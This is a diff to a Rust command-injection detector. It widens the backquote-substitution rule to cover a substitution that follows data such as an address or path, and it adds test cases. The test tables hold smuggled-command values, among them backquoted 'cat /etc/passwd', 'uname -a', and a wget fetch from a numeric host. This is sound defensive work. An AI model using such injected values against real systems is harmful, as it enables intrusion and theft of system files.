@@ -82,13 +82,22 @@ fn injects_command(value: &str) -> bool {
     false
 }
 
-/// Whether the backquote at `at` opens a substitution bound to the value: at its start or right
-/// after a character (`name=a\`uname -a\``), and closed at the value's end or before a separator
-/// (or never closed). Prose that quotes a command as code, as a search for documentation does
-/// (``run \`ls -la\` ``, ``\`id\` column``, ``\`hostname\` vs \`uname -n\` ``), is not. Reads at
-/// most up to the next backquote, so a run of backquotes stays linear.
+/// Whether the backquote at `at` opens a substitution bound to the value: at its start, right
+/// after a character (`name=a\`uname -a\``), or after a space that follows data rather than a
+/// word (`ip=127.0.0.1 \`uname -a\``: an address, a number, a path); and closed at the value's
+/// end or before a separator (or never closed). Prose that quotes a command as code, as a search
+/// for documentation does (``run \`ls -la\` ``, ``\`id\` column``, ``\`hostname\` vs \`uname -n\` ``),
+/// is not. Reads at most up to the next backquote (and back over one word), so a run of
+/// backquotes stays linear.
 fn backquote_touches(value: &str, at: usize) -> bool {
-    let bound_before = at == 0 || !value.as_bytes()[at - 1].is_ascii_whitespace();
+    let bound_before = at == 0 || !value.as_bytes()[at - 1].is_ascii_whitespace() || {
+        let word = value[..at]
+            .trim_end()
+            .rsplit(|c: char| c.is_ascii_whitespace())
+            .next()
+            .unwrap_or("");
+        !word.is_empty() && !word.bytes().all(|b| b.is_ascii_alphabetic())
+    };
     let after = &value[at + 1..];
     bound_before
         && after.find('`').is_none_or(|close| {
@@ -198,6 +207,9 @@ mod tests {
             "dir=$(wget http://198.51.100.1/x)",
             "name=a`uname -a`",
             "host=`id`",
+            "ip=127.0.0.1 `uname -a`",
+            "ip=1.1.1.1 `ping -c 10 127.0.0.1`",
+            "path=/tmp/x `cat /etc/passwd`",
             "q=x`wget http://198.51.100.1/x`;",
             "q=`cat /etc/passwd`",
             "ip=1.1.1.1; ping -c 3 198.51.100.1",
@@ -240,6 +252,7 @@ mod tests {
             "q=`hostname` vs `uname -n`",
             "q=`sleep 5` in script",
             "q=`id` column",
+            "q=foo `sleep 10` bar",
             "",
         ] {
             assert!(!has_injected_command(q), "{q}");
